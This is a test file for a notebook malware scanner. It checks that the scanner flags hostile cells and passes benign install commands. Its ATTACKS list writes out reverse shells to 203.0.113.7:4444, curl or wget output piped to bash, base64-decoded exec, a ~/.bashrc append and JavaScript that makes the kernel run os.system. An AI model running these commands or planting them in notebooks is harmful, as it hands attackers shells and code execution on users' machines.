import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { scanBytes } from "../../core/scan-bytes.js";

const of = (...cells: object[]): string =>
  scanBytes(Buffer.from(JSON.stringify({ cells, nbformat: 4 })), "a.ipynb").verdict;
const code = (source: string): object => ({
  cell_type: "code",
  source: source.split(/(?<=\n)/),
  outputs: [],
});
const shown = (type: string, text: string): object => ({
  cell_type: "code",
  source: [],
  outputs: [{ output_type: "display_data", data: { [type]: [text] } }],
});

const ATTACKS = [
  "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
  "!curl http://203.0.113.7/x.sh | bash",
  "!curl -s https://203.0.113.7/x.sh | bash",
  "x = 1\nout = !bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
  "if True:\n    !echo aWQ= | base64 -d | sh",
  "!wget -q \\\n  http://203.0.113.7/x -O- | sh",
  "%sx nc -e /bin/sh 203.0.113.7 4444",
  "%%bash\nset -e\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
  "%%script --bg sh\ncurl http://203.0.113.7/a | sh",
  "import os\nget_ipython().system('curl http://203.0.113.7/x.sh | bash')",
  'get_ipython().run_cell_magic("bash", "", "curl http://203.0.113.7/x | sh\\n")',
  "ip = get_ipython()\nip.getoutput('echo aWQ= | base64 -d | sh')",
  "%%writefile -a ~/.bashrc\nid",
  "%%javascript\nJupyter.notebook.kernel.execute('import os; os.system(\"id\")')",
];

const HONEST = [
  "!pip install x\n%matplotlib inline\nimport os\nos.system('ls')",
  "!curl -fsSL https://ollama.com/install.sh | sh",
  "!curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
  "!wget -qO- https://example.org/install.sh | sudo bash",
  "!curl -sSL https://install.python-poetry.org | python3 -",
  "%%bash\nset -e\npip install -q torch\ncurl -L https://example.org/w.tar.gz | tar xz",
  "files = !ls *.py\nif files != []: print(files)",
  "x = a if not b else c\nassert x != 2",
  "get_ipython().system('pip install -q torch')\nget_ipython().run_line_magic('matplotlib', 'inline')",
  "get_ipython().system('curl -fsSL https://ollama.com/install.sh | sh')",
  "%%writefile a.py\nprint('!')",
  "%%html\n<b>x</b>",
];

describe("a notebook", () => {
  it.each(ATTACKS)("alarms at %j, which nobody writes in good faith", (source) => {
    expect(of(code("import torch"), code(source))).toBe("malicious");
  });
  it.each(HONEST)("lets %j pass", (source) => expect(of(code(source))).toBe("clean"));
  it("follows what a shown script has the kernel run", () => {
    const run = (python: string): string =>
      `<script>Jupyter.notebook.kernel.execute(${JSON.stringify(python)})</script>`;
    expect(of(shown("text/html", run("import os\nos.system('id')")))).toBe("malicious");
    expect(of({ cell_type: "markdown", source: run("__import__('os').system('id')") })).toBe("malicious");
    expect(
      of(shown("application/javascript", "kernel.requestExecute({code: 'import os;os.system(\\'id\\')'})")),
    ).toBe("malicious");
    // As Bokeh writes it.
    const bokeh = "from bokeh.io.notebook import destroy_server\ndestroy_server('x')";
    expect(of(shown("text/html", run(bokeh)))).toBe("clean");
    expect(of(shown("text/html", "<script>Plotly.newPlot('a', [])</script>"))).toBe("clean");
  });
  it("has an answer for any cell", () => {
    const piece = fc.constantFrom(
      "!",
      "%%bash",
      "\n",
      "\\",
      "=",
      "curl ",
      "kernel.execute(",
      "'",
      "x",
      "|",
      "sh",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const cell = { ...code(pieces.join("")), ...shown("text/html", pieces.join("")) };
        const bytes = Buffer.from(JSON.stringify({ cells: [cell] }));
        expect(scanBytes(bytes, "a.ipynb").findings.map(({ rule }) => rule)).not.toContain("parser-failed");
      }),
    );
  });
});
